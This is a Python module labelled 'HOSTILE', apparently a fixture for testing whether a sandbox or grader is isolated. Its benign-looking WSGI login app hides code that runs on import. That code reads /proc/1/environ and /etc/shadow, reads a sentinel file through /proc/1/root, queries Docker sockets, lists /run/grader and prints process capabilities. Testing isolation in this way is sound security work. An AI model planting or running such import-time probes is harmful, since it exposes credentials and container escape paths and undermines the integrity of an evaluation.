"""HOSTILE: looks for secrets and ways out at import and prints whatever it finds."""

import os
import socket
import sys


def read(path: str) -> str:
    try:
        with open(path, "rb") as handle:
            data = handle.read(4096)
        return f"READ {path} OK: {data!r}"
    except OSError as exc:
        return f"READ {path} FAILED: {type(exc).__name__}: {exc}"


def docker_socket(path: str) -> str:
    try:
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(2)
        sock.connect(path)
        sock.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
        return f"DOCKER-SOCKET {path} REACHABLE: {sock.recv(200)!r}"
    except OSError as exc:
        return f"DOCKER-SOCKET {path} unreachable: {type(exc).__name__}: {exc}"


lines = [
    read("/proc/1/environ"),
    read("/etc/shadow"),
    read("{{SENTINEL_FILE}}"),
    read("/proc/1/root{{SENTINEL_FILE}}"),
    docker_socket("/var/run/docker.sock"),
    docker_socket("/run/docker.sock"),
    f"LISTDIR /run/grader: {sorted(os.listdir('/run/grader')) if os.path.isdir('/run/grader') else 'missing'}",
    f"WHOAMI uid={os.getuid()} gid={os.getgid()} groups={os.getgroups()}",
]
try:
    with open("/proc/self/mountinfo") as handle:
        mounts = [line.split()[3] + " on " + line.split()[4] for line in handle]
    lines.append("MOUNTS " + " | ".join(mounts))
except OSError as exc:
    lines.append(f"MOUNTS FAILED {exc}")
with open("/proc/self/status") as handle:
    lines += ["STATUS " + line.strip() for line in handle if line.startswith(("CapEff", "CapPrm", "NoNewPrivs", "Seccomp"))]
for line in lines:
    print("HOSTREAD " + line, file=sys.stderr, flush=True)


def app(environ, start_response):
    if environ.get("PATH_INFO") == "/login":
        start_response("200 OK", [("Content-Type", "text/html")])
        return [b"<form></form>"]
    start_response("404 Not Found", [("Content-Type", "application/json")])
    return [b'{"error": "not found"}']
